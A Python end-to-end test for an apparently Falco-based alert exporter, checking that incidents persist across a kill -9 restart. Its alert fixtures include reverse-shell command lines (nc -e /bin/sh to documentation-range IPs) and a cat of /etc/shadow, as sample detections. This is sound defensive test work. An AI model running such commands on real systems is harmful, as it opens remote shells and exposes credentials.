"""Incidents outlive kill -9: the page stays at its address, and what was told is not told again."""

from __future__ import annotations

import contextlib
import json
import time
import urllib.request
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from exporter.history.history import History
from exporter.sources.decode import from_received
from tests.e2e.processes import NO_LAME_DUCK, Exporter, fetch, free_port
from tests.waiting import wait_until

pytestmark = pytest.mark.e2e


def post(port: int, rule: str, container: str, **fields: str) -> None:
    now = time.time_ns()
    document = {
        "time": f"{datetime.fromtimestamp(now // 10**9, UTC):%Y-%m-%dT%H:%M:%S}.{now % 10**9:09d}Z",
        "rule": rule,
        "priority": "Warning",
        "source": "syscall",
        "hostname": "node-1",
        "output": rule,
        "output_fields": {"container.id": container, "k8s.pod.name": "web-0", "k8s.ns.name": "shop", **fields},
    }
    request = urllib.request.Request(f"http://127.0.0.1:{port}/", json.dumps(document).encode())
    with urllib.request.urlopen(request, timeout=10) as answer:
        assert answer.status == 200


def incidents(running: Exporter) -> list[dict[str, Any]]:
    text = fetch(f"{running.url}/api/v1/incidents")
    found: list[dict[str, Any]] = json.loads(text)["incidents"] if text else []
    return found


def test_an_incident_outlives_kill_9_under_its_address(tmp_path: Path) -> None:
    """Killed with an open incident, the exporter has it after the next start, and goes on with it."""
    port = free_port()
    arguments = ("--http.address", f"127.0.0.1:{port}", "--history.directory", tmp_path / "history", *NO_LAME_DUCK)
    netcat = {"proc.cmdline": "nc -e /bin/sh 203.0.113.7 4444", "proc.name": "nc"}
    other = {"proc.cmdline": "nc -e /bin/sh 198.51.100.9 4444", "proc.name": "nc", "k8s.pod.name": "db-0"}
    first = Exporter(tmp_path, *arguments)
    try:
        first.await_ready()
        post(port, "Netcat Remote Code Execution in Container", "a" * 12, **netcat)
        post(port, "Terminal shell in container", "a" * 12, **{"proc.cmdline": "bash"})
        post(port, "Netcat Remote Code Execution in Container", "b" * 12, **other)
        wait_until(lambda: sum(each["alerts"] for each in incidents(first)) == 3, "the alerts are joined")
        wait_until(lambda: first.total("falco_exporter_history_alerts") == 3, "the history has them")
        before = incidents(first)
        with contextlib.closing(History(tmp_path / "history", from_received)) as history:
            ids = {each["id"] for each in before}
            wait_until(lambda: {each.id for each in history.incident_states()} >= ids, "what was told is kept")
    finally:
        first.kill()
    second = Exporter(tmp_path, *arguments)
    try:
        second.await_ready()
        assert incidents(second) == before
        assert second.total("falco_incidents_opened_total") == 0
        (two,) = [each["id"] for each in before if each["alerts"] == 2]
        post(port, "Read sensitive file untrusted", "a" * 12, **{"fd.name": "/etc/shadow", "proc.name": "cat"})
        wait_until(lambda: {each["id"]: each["alerts"] for each in incidents(second)}.get(two) == 3, "it goes on")
        assert "Netcat" in fetch(f"{second.url}/incidents/{two}.md")
    finally:
        second.kill()
